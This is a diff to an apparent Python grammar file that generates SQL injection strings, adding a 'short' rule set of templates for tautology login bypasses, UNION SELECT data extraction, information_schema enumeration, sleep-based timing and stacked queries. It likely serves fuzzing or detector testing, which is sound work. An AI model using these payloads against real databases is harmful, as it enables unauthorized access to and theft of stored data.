@@ -51,7 +51,7 @@ def _same(chance: Chance) -> str:
 
 
 _SQL: Final[Rules] = {
-    "sqli": ["«inband»", "«inband»", "«blind»", "«blind»", "«timed»", "«union»", "«union»", "«error»", "«stacked»", "«login»", "«misc»"],
+    "sqli": ["«inband»", "«inband»", "«blind»", "«blind»", "«timed»", "«union»", "«union»", "«error»", "«stacked»", "«login»", "«misc»", "«short»", "«short»"],
     "same": _same,
     "nulls": _nulls,
     "marker": _char_calls,
@@ -65,6 +65,11 @@ _SQL: Final[Rules] = {
             " and \"«d»\"=\"«d»", " and '%'='", "/*«rnd»", ";", "«g»limit 1--", "«g»and«g»(«d»=«d»", "", "-- «nn»"],
     "comment": ["--", "-- -", "#", "/*", ";--", "--+", "-- «rnd»", ";#"],
     "logic": ["or", "or", "and", "and", "||", "&&", "xor", "or not", "and not", "|", "^", "&", "div", "rlike"],
+    "short": ["«word»«g»«logic_word»«g»«nn»=«nn»", "«n»«g»«logic_word»«g»«nn»=«nn»«end»", "«before»'or'«d»='«d»", "«word»'or'«rnd»'='«rnd»", "«before»«g»or«g»«d»=«d»", "«word» or «rnd»=«rnd»", "or a = a", "or x=x", "«before»«g»order«g»by«g»«small»", "order by «small»--",
+              "«n»«g»union«g»«all»select«g»«n»", "«n»«g»union«g»«all»select«g»«secret»,«secret»«from»", "«n»«g»union«g»«all»select«g»«noun»,«noun»«g»from«g»«noun»s", "union«g»«all»select«g»«nulls»", "union«g»«all»select«g»«noun»«g»from«g»«tables»", "«word»'«g»union«g»select«g»«noun»,«noun»«g»from«g»«noun»s--", "«before»'«g»«action»",
+              "«n»; «action»--", "«n»;«action»", "select * from «tables»--", "select«g»«secret»«g»from«g»information_schema.tables", "«user»'--", "«user»'-- ", "' or '«d»'='«d»", "\" or \"«d»\"=\"«d»", "1 or 1=1", "' or 1=1--", "«before»' and «nn»=«nn»", "«before») and («nn»=«nn»", "«before» and «nn»=«nn»-- «rnd»", "«n» and rownum=rownum",
+              "«word»«g»and«g»sleep(«d»)", "«sub»", "case«g»when«g»«noun»=0x«hex»«g»then«g»1«g»else«g»0«g»end", "select name,tbname from sysibm.syscolumns", "«word» and 1=«d»", "-«nn»«g»union«g»«all»select«g»«nulls»--", "«n»'«g»union«g»select«g»«nulls»#"],
+    "logic_word": ["and", "or", "and", "and not"],
     "inband": ["«out»«s»«logic»«s»«same»«end»", "«out»«s»«logic»«s»«same»«end»", "«out»«logic»«g»«same»«end»",
                "«out»«s»«logic»«s»«same»«g»«logic»«g»«same»«end»", "«before»«close_quoted»«s»«logic»«s»(«same»)«end»",
                "«out»«s»group«g»by«s»«columns»«g»having«g»«same»«end»", "«out»«s»order«g»by«s»«small»«end»",
